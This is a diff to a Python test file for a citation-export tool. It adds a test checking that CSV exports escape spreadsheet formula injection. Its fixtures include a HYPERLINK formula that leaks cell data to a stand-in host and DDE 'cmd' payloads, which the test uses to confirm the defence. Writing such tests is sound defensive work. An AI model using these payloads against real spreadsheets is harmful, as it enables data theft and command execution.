@@ -3,13 +3,14 @@ carries comes back; over the full store nothing stored is lost and nothing chang
 
 from __future__ import annotations
 
+import csv
 import re
 import sqlite3
 from pathlib import Path
 
 import pytest
 
-from corpus.article import WARNING_LINKS, Article
+from corpus.article import WARNING_LINKS, AbstractSection, Article, Author
 from corpus.exports import WRITERS, author_name, bibtex_entry, iter_records, reference_type, ris_group_name, split_pages
 from corpus.search import search
 from corpus.store import Store
@@ -214,3 +215,27 @@ def test_group_authors_sent_back_as_csv_or_ris_are_braced_in_bibtex(tmp_path):
         "Kendall, J M and {Nasal Diamorphine Trial Group}",
         "Gatta, Gemma and {EUROCARE Working Group} and {Tumour and Angiogenesis Research Group}",
     ]
+
+
+def test_csv_cells_a_spreadsheet_would_run_as_formulas_start_with_a_quote_and_come_back_as_they_were(tmp_path):
+    """Formulas ('=', '+', '-', '@') are shown as text in a spreadsheet; values that start so for good reason
+    (a title on '+/-', pages '-', a negative volume) or with quotes of their own read back exactly."""
+    articles = [
+        Article("1", '=HYPERLINK("http://evil.example/?leak="&A1,"click")', [AbstractSection("=1+1 Ketamine helped.", "CONCLUSIONS")],
+                [Author(collective="=1+1, +cmd|' /C calc'!A0"), Author("@Smith", "J", "J")], "=cmd|' /C calc'!A0", doi="=1+2",
+                keywords=["-ketamine", "@mention"], volume="-1", pages="-", pub_date="2020", pub_date_sort="2020-01-01"),
+        Article("2", "+/- 5 mg: '=' in a title", journal="'=quoted' journal", volume="''-2", issue="'Spring'", doi="10.1000/x",
+                keywords=["'@", "''"], pub_date="2021", pub_date_sort="2021-01-01"),
+    ]
+    ours, theirs = Store(":memory:"), Store(":memory:")
+    ours.upsert_articles(articles)
+    path = tmp_path / "export.csv"
+    with open(path, "w", encoding="utf-8", newline="") as out:
+        WRITERS["csv"](iter_records(ours, ["1", "2"]), out)
+    with open(path, encoding="utf-8", newline="") as written:
+        cells = [cell for row in csv.reader(written) for cell in row]
+    assert [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")] == []
+    assert {'\'=HYPERLINK("http://evil.example/?leak="&A1,"click")', "'=1+2", "'-", "'-1", "'+/- 5 mg: '=' in a title", "'''-2"} <= set(cells)
+    assert ingest_files(theirs, [path]).ok
+    for original in articles:
+        assert carried(theirs.get_article(original.pmid), "csv") == carried(original, "csv")
